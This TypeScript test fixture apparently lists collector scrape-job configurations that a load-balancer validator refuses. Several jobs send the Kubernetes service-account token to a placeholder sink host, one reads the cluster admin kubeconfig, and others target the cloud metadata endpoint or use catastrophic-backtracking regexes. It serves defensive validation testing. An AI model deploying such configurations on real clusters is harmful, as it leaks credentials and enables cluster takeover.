/** Jobs by which the author of a CollectorLoadBalancer would reach further than its own rights do; each is refused. */

const TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const SINK = "http://192.0.2.99:9/";

/** By the name of the job: the fields of it that are refused. */
export const HOSTILE_JOBS: Readonly<Record<string, object>> = {
  "token-to-http": { http_sd_configs: [{ url: SINK, authorization: { credentials_file: TOKEN } }] },
  "token-to-header": { http_sd_configs: [{ url: SINK, http_headers: { "X-A": { files: [TOKEN] } } }] },
  "token-as-targets": { file_sd_configs: [{ files: [TOKEN] }] },
  "token-to-cluster": { kubernetes_sd_configs: [{ role: "pod", api_server: SINK, bearer_token_file: TOKEN }] },
  kubeconfig: { kubernetes_sd_configs: [{ role: "pod", kubeconfig_file: "/etc/kubernetes/admin.conf" }] },
  "endless-regex": rule("((((a{0,999}){0,999}){0,999}){0,999})*"),
  "no-regex": rule("(?<=a)b"),
};

/** Is configured as it should be, but where it leads must not be reached. */
export const METADATA_JOB = { job_name: "metadata", http_sd_configs: [{ url: "http://169.254.169.254/latest/" }] };

/** Takes for ever in an engine that backtracks, and is allowed: it takes linear time here. */
export const SLOW_JOB = {
  job_name: "slow",
  static_configs: [{ targets: [`${"a".repeat(5000)}!:80`] }],
  relabel_configs: [{ source_labels: ["__address__"], action: "drop", regex: "(a+)+b" }],
};

function rule(regex: string): object {
  const relabel = { source_labels: ["__address__"], action: "keep", regex };
  return { static_configs: [{ targets: ["a:1"] }], relabel_configs: [relabel] };
}

/** A configuration of at least this many characters. */
export function longConfiguration(characters: number): string {
  return `${"# padding\n".repeat(characters / 10)}receivers: {}\n`;
}
